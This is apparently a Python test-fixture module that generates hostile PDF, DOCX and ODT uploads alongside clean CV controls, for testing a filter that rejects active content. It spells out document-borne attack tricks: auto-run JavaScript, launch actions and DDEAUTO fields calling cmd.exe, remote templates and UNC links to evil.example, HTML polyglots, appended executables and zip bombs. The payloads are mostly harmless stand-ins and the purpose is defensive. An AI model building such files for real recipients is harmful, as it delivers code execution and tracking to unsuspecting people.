"""A corpus of hostile uploads, built in the test run, and harmless controls of each kind.

Each builder returns bytes. The hostile ones each carry one trick an attacker uses to get active content onto the
secretary's computer; the controls are ordinary documents (with a hyperlink, which is allowed).
"""

import io
import zipfile

from pypdf import PdfWriter
from pypdf.generic import (
    ArrayObject,
    DictionaryObject,
    FloatObject,
    NameObject,
    NumberObject,
    TextStringObject,
)

from .applications_support import exe_bytes, ole_bytes

W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
R = 'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'
RELS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PKG_RELS = 'xmlns="http://schemas.openxmlformats.org/package/2006/relationships"'
HYPERLINK = f"{RELS}/hyperlink"


# PDF ------------------------------------------------------------------------------------------------------------


def _pdf(change=None, encrypt=False):
    writer = PdfWriter()
    page = writer.add_blank_page(width=595, height=842)
    # An ordinary link to a website: allowed.
    link = DictionaryObject(
        {
            NameObject("/Type"): NameObject("/Annot"),
            NameObject("/Subtype"): NameObject("/Link"),
            NameObject("/Rect"): ArrayObject([FloatObject(50), FloatObject(50), FloatObject(200), FloatObject(70)]),
            NameObject("/A"): DictionaryObject(
                {NameObject("/S"): NameObject("/URI"), NameObject("/URI"): TextStringObject("https://example.org/")}
            ),
        }
    )
    page[NameObject("/Annots")] = ArrayObject([writer._add_object(link)])
    writer.add_metadata({"/Title": "Cv Anna Bakker"})
    if change:
        change(writer, page)
    if encrypt:
        writer.encrypt("geheim", algorithm="RC4-128")
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def pdf_control():
    return _pdf()


def _action(kind, **entries):
    return DictionaryObject(
        {NameObject("/S"): NameObject(kind), **{NameObject(f"/{k}"): v for k, v in entries.items()}}
    )


def pdf_open_action_javascript():
    def change(writer, page):
        writer._root_object[NameObject("/OpenAction")] = _action("/JavaScript", JS=TextStringObject("app.alert(1)"))

    return _pdf(change)


def pdf_names_javascript():
    """Document-level JavaScript in the /Names tree, run when the file opens."""

    def change(writer, page):
        script = writer._add_object(_action("/JavaScript", JS=TextStringObject("this.print({bUI:false});")))
        tree = DictionaryObject({NameObject("/Names"): ArrayObject([TextStringObject("init"), script])})
        writer._root_object[NameObject("/Names")] = DictionaryObject({NameObject("/JavaScript"): tree})

    return _pdf(change)


def pdf_launch_action():
    def change(writer, page):
        writer._root_object[NameObject("/OpenAction")] = _action(
            "/Launch", F=TextStringObject("cmd.exe"), P=TextStringObject("/c calc")
        )

    return _pdf(change)


def pdf_page_additional_action():
    def change(writer, page):
        page[NameObject("/AA")] = DictionaryObject(
            {NameObject("/O"): _action("/JavaScript", JS=TextStringObject("app.launchURL('http://evil')"))}
        )

    return _pdf(change)


def pdf_embedded_file():
    return _pdf(lambda writer, page: writer.add_attachment("factuur.exe", exe_bytes()))


def pdf_remote_goto():
    def change(writer, page):
        writer._root_object[NameObject("/OpenAction")] = _action(
            "/GoToR", F=TextStringObject("\\\\evil.example\\share\\x.pdf"), D=ArrayObject([NumberObject(0)])
        )

    return _pdf(change)


def pdf_xfa_form():
    def change(writer, page):
        writer._root_object[NameObject("/AcroForm")] = DictionaryObject(
            {NameObject("/Fields"): ArrayObject(), NameObject("/XFA"): TextStringObject("<xdp:xdp/>")}
        )

    return _pdf(change)


def pdf_zip_appended():
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("run.bat", "calc.exe")
    return pdf_control() + buffer.getvalue()


def pdf_exe_appended():
    return pdf_control() + exe_bytes()


def pdf_header_then_exe():
    return b"%PDF-1.7\n" + exe_bytes()


def pdf_html_polyglot():
    control = pdf_control()
    header, _newline, rest = control.partition(b"\n")
    return header + b"\n<html><body><script>alert(document.cookie)</script></body></html>\n" + rest


def pdf_html_after_eof():
    return pdf_control() + b"\n<!DOCTYPE html><html><script>alert(1)</script></html>\n"


def pdf_obfuscated_javascript_name():
    """The name written with #-escapes (/J#61vaScript): a PDF reader decodes it to /JavaScript."""
    return (
        b"%PDF-1.4\n"
        b"1 0 obj\n<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /J#61vaScript /JS (app.alert\\(1\\)) >> >>\nendobj\n"
        b"2 0 obj\n<< /Type /Pages /Kids [3 0 R] /Count 1 >>\nendobj\n"
        b"3 0 obj\n<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>\nendobj\n"
        b"trailer\n<< /Root 1 0 R /Size 4 >>\nstartxref\n0\n%%EOF\n"
    )


def pdf_encrypted():
    return _pdf(encrypt=True)


# DOCX -----------------------------------------------------------------------------------------------------------


def _docx(document_body="<w:p><w:r><w:t>Anna Bakker</w:t></w:r></w:p>", rels=(), extra=None, content_types=""):
    relationships = "".join(
        f'<Relationship Id="{rid}" Type="{kind}" Target="{target}"{mode}/>' for rid, kind, target, mode in rels
    )
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(
            "[Content_Types].xml",
            '<?xml version="1.0" encoding="UTF-8"?>'
            '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
            '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
            '<Default Extension="xml" ContentType="application/xml"/>'
            '<Override PartName="/word/document.xml" '
            'ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/>'
            f"{content_types}</Types>",
        )
        archive.writestr(
            "_rels/.rels",
            f'<Relationships {PKG_RELS}><Relationship Id="rId1" '
            f'Type="{RELS}/officeDocument" Target="word/document.xml"/></Relationships>',
        )
        archive.writestr("word/document.xml", f"<w:document {W} {R}><w:body>{document_body}</w:body></w:document>")
        archive.writestr("word/_rels/document.xml.rels", f"<Relationships {PKG_RELS}>{relationships}</Relationships>")
        for name, content in (extra or {}).items():
            archive.writestr(name, content)
    return buffer.getvalue()


def docx_control():
    link = '<w:hyperlink r:id="rId9"><w:r><w:t>linkedin.com/in/anna</w:t></w:r></w:hyperlink>'
    return _docx(
        f"<w:p><w:r><w:t>Anna Bakker</w:t></w:r>{link}</w:p>",
        rels=[("rId9", HYPERLINK, "https://www.linkedin.com/in/anna", ' TargetMode="External"')],
    )


def docx_remote_template():
    settings_rels = (
        f'<Relationships {PKG_RELS}><Relationship Id="rId1" Type="{RELS}/attachedTemplate" '
        'Target="http://evil.example/template.dotm" TargetMode="External"/></Relationships>'
    )
    return _docx(extra={"word/settings.xml": f"<w:settings {W}/>", "word/_rels/settings.xml.rels": settings_rels})


def docx_remote_image():
    return _docx(rels=[("rId5", f"{RELS}/image", "http://tracker.example/pixel.png", ' TargetMode="External"')])


def docx_ole_object_with_macros():
    ole = ole_bytes({"Macros": None, "WordDocument": b"\xec\xa5" + b"\x00" * 5000})
    body = (
        '<w:p><w:r><w:object><o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:office" '
        'ProgID="Word.Document.8" r:id="rId7"/></w:object></w:r></w:p>'
    )
    return _docx(
        body,
        rels=[("rId7", f"{RELS}/oleObject", "embeddings/oleObject1.bin", "")],
        extra={"word/embeddings/oleObject1.bin": ole},
    )


def docx_ddeauto_field():
    body = (
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        '<w:r><w:instrText xml:space="preserve"> DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc" </w:instrText></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )
    return _docx(body)


def docx_dde_field_split_over_runs():
    body = (
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        '<w:r><w:instrText xml:space="preserve"> DD</w:instrText></w:r>'
        '<w:r><w:instrText xml:space="preserve">E "c:\\\\x.exe" "a" </w:instrText></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )
    return _docx(body)


def docx_dde_simple_field_in_footer():
    footer = f'<w:ftr {W}><w:p><w:fldSimple w:instr=\'DDEAUTO "cmd" "/c calc"\'/></w:p></w:ftr>'
    return _docx(extra={"word/footer1.xml": footer})


def docx_activex_control():
    return _docx(extra={"word/activeX/activeX1.xml": "<ax:ocx/>", "word/activeX/activeX1.bin": b"\x00" * 64})


def docx_macro_enabled_content_type():
    return _docx(content_types='<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>')


def docx_ratio_bomb():
    """One 15 MB entry of zeros: under the 20 MB cap, packed about 1,000 to 1."""
    return _docx(extra={"word/media/image1.png": b"\x00" * (15 * 1024 * 1024)})


def docx_zip_bomb():
    """About 1 MB holding a 1 GiB entry, written in chunks so the test never holds 1 GiB in memory."""
    buffer = io.BytesIO(_docx())
    chunk = b"\x00" * (4 * 1024 * 1024)
    with (
        zipfile.ZipFile(buffer, "a", zipfile.ZIP_DEFLATED, compresslevel=9) as archive,
        archive.open("word/media/huge.bin", "w", force_zip64=True) as entry,
    ):
        for _part in range(256):
            entry.write(chunk)
    return buffer.getvalue()


# ODT ------------------------------------------------------------------------------------------------------------

OFFICE = (
    'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
    'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" '
    'xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0" '
    'xmlns:script="urn:oasis:names:tc:opendocument:xmlns:script:1.0" '
    'xmlns:xlink="http://www.w3.org/1999/xlink"'
)


def _odt(body="<text:p>Anna Bakker</text:p>", extra=None):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr(zipfile.ZipInfo("mimetype"), "application/vnd.oasis.opendocument.text")
        content = f"<office:document-content {OFFICE}><office:body><office:text>{body}</office:text></office:body></office:document-content>"
        archive.writestr("content.xml", content, compress_type=zipfile.ZIP_DEFLATED)
        archive.writestr("META-INF/manifest.xml", "<manifest:manifest/>", compress_type=zipfile.ZIP_DEFLATED)
        for name, data in (extra or {}).items():
            archive.writestr(name, data, compress_type=zipfile.ZIP_DEFLATED)
    return buffer.getvalue()


def odt_control():
    return _odt(
        '<text:p>Anna Bakker <text:a xlink:href="https://www.linkedin.com/in/anna">LinkedIn</text:a></text:p>'
        '<text:p><draw:frame><draw:image xlink:href="Pictures/foto.png"/></draw:frame></text:p>',
        extra={"Pictures/foto.png": b"\x89PNG\r\n\x1a\n" + b"\x01" * 200},
    )


def odt_embedded_ole_object():
    return _odt(
        '<text:p><draw:frame><draw:object-ole xlink:href="./Object 1"/></draw:frame></text:p>',
        extra={"Object 1": ole_bytes({"WordDocument": b"\xec\xa5" + b"\x00" * 5000})},
    )


def odt_remote_image():
    return _odt('<text:p><draw:frame><draw:image xlink:href="http://tracker.example/pixel.png"/></draw:frame></text:p>')


def odt_dde_connection():
    return _odt(
        '<text:dde-connection-decls><text:dde-connection-decl office:name="x" office:dde-application="cmd" '
        'office:dde-topic="/c calc" office:dde-item="x"/></text:dde-connection-decls><text:p>Anna</text:p>'
    )


def odt_script_event():
    return _odt(
        '<text:p><office:event-listeners><script:event-listener script:language="ooo:script" '
        'script:event-name="dom:load" xlink:href="vnd.sun.star.script:Standard.Module1.Main"/>'
        "</office:event-listeners></text:p>"
    )


def odt_ratio_bomb():
    return _odt(extra={"Pictures/big.png": b"\x00" * (15 * 1024 * 1024)})


# name: (builder, why it is refused)
HOSTILE = {
    "pdf-openaction-javascript.pdf": (pdf_open_action_javascript, "active"),
    "pdf-names-javascript.pdf": (pdf_names_javascript, "active"),
    "pdf-launch.pdf": (pdf_launch_action, "active"),
    "pdf-page-additional-action.pdf": (pdf_page_additional_action, "active"),
    "pdf-embedded-file.pdf": (pdf_embedded_file, "active"),
    "pdf-remote-goto.pdf": (pdf_remote_goto, "active"),
    "pdf-xfa.pdf": (pdf_xfa_form, "active"),
    "pdf-zip-appended.pdf": (pdf_zip_appended, "trailing"),
    "pdf-exe-appended.pdf": (pdf_exe_appended, "trailing"),
    "pdf-header-then-exe.pdf": (pdf_header_then_exe, "content"),
    "pdf-html-polyglot.pdf": (pdf_html_polyglot, "active"),
    "pdf-html-after-eof.pdf": (pdf_html_after_eof, "trailing"),
    "pdf-obfuscated-javascript.pdf": (pdf_obfuscated_javascript_name, "active"),
    "pdf-encrypted.pdf": (pdf_encrypted, "encrypted"),
    "docx-remote-template.docx": (docx_remote_template, "active"),
    "docx-remote-image.docx": (docx_remote_image, "active"),
    "docx-ole-object-with-macros.docx": (docx_ole_object_with_macros, "active"),
    "docx-ddeauto.docx": (docx_ddeauto_field, "active"),
    "docx-dde-split-over-runs.docx": (docx_dde_field_split_over_runs, "active"),
    "docx-dde-in-footer.docx": (docx_dde_simple_field_in_footer, "active"),
    "docx-activex.docx": (docx_activex_control, "active"),
    "docx-macro-content-type.docx": (docx_macro_enabled_content_type, "active"),
    "docx-ratio-bomb.docx": (docx_ratio_bomb, "bomb"),
    "docx-zip-bomb-1gib.docx": (docx_zip_bomb, "bomb"),
    "odt-embedded-ole.odt": (odt_embedded_ole_object, "active"),
    "odt-remote-image.odt": (odt_remote_image, "active"),
    "odt-dde.odt": (odt_dde_connection, "active"),
    "odt-script-event.odt": (odt_script_event, "active"),
    "odt-ratio-bomb.odt": (odt_ratio_bomb, "bomb"),
}
CONTROLS = {"cv.pdf": pdf_control, "cv.docx": docx_control, "cv.odt": odt_control}
